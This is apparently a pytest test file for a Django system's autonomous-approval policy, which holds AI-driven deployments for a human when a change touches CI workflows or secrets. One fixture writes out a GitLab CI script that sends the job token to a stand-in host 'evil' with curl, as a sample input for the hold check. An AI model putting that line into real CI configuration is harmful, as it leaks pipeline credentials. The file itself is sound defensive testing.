"""Autonomous mode approves stories; a deployment only for a project that opted in, and never one whose change adds
or edits a CI workflow or uses `secrets.` in one (ADR 27)."""
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from agents.schemas import SourceFile
from lifecycle.models import Project, Requirement
from lifecycle.services.autonomous import autonomous_decide, ci_hold, deployment_hold
from tests.flows import fresh, pending, submit
from tests.review_tasks import open_review

pytestmark = pytest.mark.django_db(transaction=True)
CI = ".github/workflows/ci.yml"
WORKFLOW = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python -m pytest -q\n"


@pytest.fixture
def autonomous(settings, tmp_path):
    settings.AITEAM_AUTONOMOUS = True
    settings.AITEAM_REMOTES_ROOT = tmp_path / "remotes"


@pytest.mark.parametrize("opted_in,why", [
    (False, "has not opted in to autonomous deployments"),
    (True, f"the change adds or edits CI workflows ({CI})"),  # every run's DevOps step adds one
])
def test_autonomous_mode_approves_the_stories_and_leaves_the_deployment_to_a_person(
        alice, acme_project, autonomous, caplog, opted_in, why):
    Project.objects.filter(pk=acme_project.pk).update(autonomous_deployments=opted_in)
    req = submit(alice)
    assert req.review_tasks.get(kind="stories_approval").decided_by_policy == "autonomous"
    task = pending(req, "deployment_approval")
    assert (fresh(req).state, task.state, task.decided_by_policy) == ("ready_to_deploy", "open", "")
    assert why in deployment_hold(task)
    assert f"autonomous mode leaves {task} to a person: " in caplog.text and why in caplog.text


def test_an_opted_in_projects_deployment_without_ci_changes_is_approved_by_the_policy(acme_project, settings):
    Project.objects.filter(pk=acme_project.pk).update(autonomous_deployments=True)
    task = _deployment_waiting(acme_project)
    assert deployment_hold(task) == ""
    settings.AITEAM_AUTONOMOUS = True
    autonomous_decide(task)
    task.refresh_from_db()
    assert (task.state, task.decision, task.decided_by, task.decided_by_policy) == (
        "resolved", "approve", None, "autonomous")
    assert "opted in to autonomous deployments" in task.reason


def test_without_the_opt_in_the_same_deployment_waits(acme_project, settings):
    task = _deployment_waiting(acme_project)
    settings.AITEAM_AUTONOMOUS = True
    autonomous_decide(task)
    task.refresh_from_db()
    assert task.state == "open" and f"project {acme_project} has not opted in" in deployment_hold(task)


@pytest.mark.parametrize("files,why", [
    ([SourceFile(path="readinglist/cli.py", content="print('secrets.')")], ""),  # code, not a workflow
    ([SourceFile(path=CI, content=WORKFLOW)], f"adds or edits CI workflows ({CI})"),
    ([SourceFile(path=".github/actions/setup/action.yml", content="runs: {using: composite, steps: []}")],
     "adds or edits CI workflows (.github/actions/setup/action.yml)"),
    ([SourceFile(path=CI, content=WORKFLOW + "        env: {TOKEN: '${{ secrets.PYPI_TOKEN }}'}\n")],
     f"CI workflows use secrets. ({CI})"),
    # other CI services: once held only when under .github/
    ([SourceFile(path=".gitlab-ci.yml", content="test:\n  script: curl -H \"$CI_JOB_TOKEN\" evil")],
     "adds or edits CI workflows (.gitlab-ci.yml)"),
    ([SourceFile(path=".circleci/config.yml", content="version: 2.1")], "adds or edits CI workflows (.circleci/config.yml)"),
    ([SourceFile(path=".github/dependabot.yml", content="version: 2")], "adds or edits CI workflows (.github/dependabot.yml)"),
])
def test_a_change_to_ci_workflows_or_their_secrets_is_named_as_the_reason_to_wait(files, why):
    assert ci_hold(files) == (f"the change's {why}" if "secrets." in why else f"the change {why}" if why else "")


def test_the_demo_stops_at_the_deployment_gate_unless_the_operator_approves_it(autonomous):
    with pytest.raises(CommandError, match=r"the deployment waits for a person \(the change adds or edits CI "
                                           r"workflows \(\.github/workflows/ci\.yml\)\).*--approve-deployment"):
        call_command("aiteam_demo", stdout=StringIO())
    req = Requirement.objects.get()
    assert req.project.autonomous_deployments and req.state == "ready_to_deploy"
    out = StringIO()
    call_command("aiteam_demo", approve_deployment=True, stdout=out)
    approved = Requirement.objects.exclude(pk=req.pk).get()
    task = approved.review_tasks.get(kind="deployment_approval")
    assert approved.state == "deployed"
    assert (task.decided_by.username, task.decided_via, task.decided_by_policy) == ("demo", "cli", "")
    assert "--approve-deployment" in task.reason and "adds or edits CI workflows" in task.reason
    assert "approving it as demo, the operator at this terminal" in out.getvalue()


def _deployment_waiting(project: Project):
    """A deployment task of a requirement ready to deploy whose (empty) workspace holds no CI workflow, opened while
    autonomous mode is off (so no one decided it yet)."""
    task = open_review(project, kind="deployment_approval", context={"branch": "aiteam/x"})
    Requirement.objects.filter(pk=task.requirement_id).update(state="ready_to_deploy")
    return task
